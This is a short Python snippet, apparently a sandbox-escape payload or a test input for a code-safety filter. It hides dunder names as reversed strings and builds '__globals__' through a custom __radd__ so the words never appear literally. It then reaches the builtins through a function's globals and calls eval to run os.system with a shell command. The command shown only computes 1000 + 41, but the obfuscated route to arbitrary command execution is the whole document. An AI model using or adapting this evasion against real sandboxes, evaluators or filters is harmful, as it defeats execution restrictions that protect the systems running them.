def rev(t):
    return t[::-1]
E = rev("__slabolg__")
class R:
    def __radd__(self, x):
        return E
getattr(rev, "zz_" + R())[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
